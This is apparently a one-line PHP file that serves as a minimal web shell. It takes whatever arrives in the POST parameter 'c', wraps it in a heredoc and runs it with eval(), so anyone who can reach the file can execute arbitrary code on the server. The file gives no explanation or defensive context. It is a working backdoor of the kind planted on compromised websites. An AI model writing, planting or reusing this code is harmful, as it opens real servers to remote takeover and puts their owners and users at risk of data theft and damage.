<?php eval(<<<CODE
{$_POST['c']}
CODE
);
